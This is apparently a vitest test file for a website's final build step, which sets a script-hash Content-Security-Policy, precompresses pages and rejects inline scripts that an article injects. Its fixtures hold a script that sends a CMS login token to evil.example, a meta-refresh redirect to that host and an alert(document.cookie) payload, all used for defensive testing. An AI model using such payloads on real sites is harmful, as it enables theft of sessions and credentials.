import { createHash } from "node:crypto"
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { pathToFileURL } from "node:url"
import { brotliDecompressSync, gunzipSync } from "node:zlib"

import { afterEach, describe, expect, it, vi } from "vitest"

import { HASHED_FILES, parseHeadersFile } from "../../server/header-match"
import { markdownProcessor } from "../../src/lib/content/markdown"
import { FONTS_FROM_FIRST_PAINT } from "../../src/lib/web-fonts"
import { finishBuild, heldLinks } from "./finish-build"

// The build's last step on a page made from a hostile article (issue 57, decision 029): what the policy admits, and
// what happens if a script reaches a page some other way.
const FONTS_HASH = `sha256-${createHash("sha256").update(FONTS_FROM_FIRST_PAINT).digest("base64")}`
const HOSTILE = [
  "## Spring clean",
  "",
  "<script>fetch('https://evil.example/?t='+localStorage.getItem('decap-cms-user'))</script>",
  "",
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
].join("\n")

const page = (body: string) =>
  `<!doctype html><html><head><script>${FONTS_FROM_FIRST_PAINT}</script></head><body><main>${body}</main></body></html>`

let root = ""
afterEach(() => {
  vi.unstubAllEnvs()
  rmSync(root, { recursive: true, force: true })
})

/** A built site's client folder with home and one article page, as Astro leaves it. */
function built(article: string) {
  root = mkdtempSync(join(tmpdir(), "finish-build-"))
  const client = join(root, "client")
  mkdirSync(join(client, "_astro"), { recursive: true })
  mkdirSync(join(client, "blog"))
  writeFileSync(join(client, "index.html"), page('<a href="/blog/spring-clean">Spring clean</a>'))
  writeFileSync(join(client, "blog/spring-clean.html"), page(`<article>${article}</article>`))
  return client
}
/** The pages as Astro reports them. */
const pagesOf = (client: string) => [join(client, "index.html"), join(client, "blog/spring-clean.html")]

describe("finishing a build with an article that got past the content check", () => {
  it("admits the layout's script alone: the article's script has no hash and its refresh is text", async () => {
    vi.stubEnv("CMS", "off")
    const renderer = await markdownProcessor.createRenderer({ syntaxHighlight: false } as never)
    const file = pathToFileURL(join(process.cwd(), "content/blog/spring-clean.md"))
    const { code } = await renderer.render(HOSTILE, { fileURL: file } as never)
    const client = built(code)
    const { rules } = await finishBuild(client, pagesOf(client), [])
    const policy = rules.find((rule) => rule.pattern === "/*")!.headers["Content-Security-Policy"]!
    expect(/script-src ([^;]*)/.exec(policy)![1]).toBe(`'self' '${FONTS_HASH}'`)
    const html = readFileSync(join(client, "blog/spring-clean.html"), "utf8")
    expect(html).not.toMatch(/<meta/i)
    expect(html).toContain("&lt;script&gt;fetch(")
    // The rules are the build's own `_headers`, in its folder, which the Node server reads too (decision 033); this
    // build has no hashed file for the folder's rule to name.
    const written = parseHeadersFile(readFileSync(join(client, "_headers"), "utf8"))
    expect(written).toEqual(rules.filter((rule) => rule.pattern !== HASHED_FILES))
  })

  it("precompresses every page, however small, and leaves a small text file that is no page as it is", async () => {
    vi.stubEnv("CMS", "off")
    const client = built("<p>Hi</p>")
    // As small as the editor's admin.html, a page that does not go through the checks above; and a robots.txt.
    const small = `<!doctype html><html lang="en"><head><title>Edit</title></head><body></body></html>\n`
    writeFileSync(join(client, "admin.html"), small)
    writeFileSync(join(client, "robots.txt"), "User-agent: *\nAllow: /\n")
    await finishBuild(client, pagesOf(client), [])
    expect(small.length).toBeLessThan(512)
    expect(brotliDecompressSync(readFileSync(join(client, "admin.html.br"))).toString()).toBe(small)
    expect(gunzipSync(readFileSync(join(client, "admin.html.gz"))).toString()).toBe(small)
    for (const page of ["index.html", "blog/spring-clean.html"]) {
      expect(existsSync(join(client, `${page}.br`)), page).toBe(true)
      expect(existsSync(join(client, `${page}.gz`)), page).toBe(true)
    }
    expect(existsSync(join(client, "robots.txt.br"))).toBe(false)
    expect(existsSync(join(client, "robots.txt.gz"))).toBe(false)
  })

  it("stops, naming the page, on an inline script the site did not write", async () => {
    vi.stubEnv("CMS", "off")
    const client = built("<p>Hi</p><script>alert(document.cookie)</script>")
    await expect(finishBuild(client, pagesOf(client), [])).rejects.toThrow(
      'Content may not add scripts to a page:\n  /blog/spring-clean has an inline script the site did not write: "alert(document.cookie)"',
    )
  })

  it("stops when pages have islands but none of Astro's island scripts was there to move", async () => {
    vi.stubEnv("CMS", "off")
    const client = built('<astro-island uid="1"></astro-island>')
    await expect(finishBuild(client, pagesOf(client), ["(()=>{})();"])).rejects.toThrow(
      "1 pages have islands, but none of Astro's island scripts was found to move into a file",
    )
  })
})

describe("the links the islands hold as data", () => {
  it("are the chat helper's options that open a page, checked with the pages' links", () => {
    expect(heldLinks()).toEqual({
      "The chat helper (labels.json)": ["/services", "/services", "/services", "/ndis", "/commercial"],
    })
  })
})
